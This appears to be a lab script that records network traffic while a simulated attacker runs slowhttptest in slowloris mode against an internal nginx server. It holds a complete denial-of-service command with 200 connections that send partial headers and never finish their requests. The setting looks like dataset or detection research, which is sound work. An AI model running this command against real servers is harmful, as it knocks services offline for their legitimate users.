#!/bin/bash
# slowhttptest -H (slowloris): 200 connections to nginx, each sends a header line
# every ten seconds and never ends its request.
LAB_DELAY_MS=12
. "$(dirname "$0")/../../lab.sh"; lab
outside attacker 203.0.113.66
inside victim 10.20.0.10
web victim 80 443
record router wan -s 128
on attacker timeout 80 slowhttptest -H -c 200 -r 50 -i 10 -x 24 -l 62 -p 3 -u http://10.20.0.10/ >/dev/null 2>&1 || true
recorded
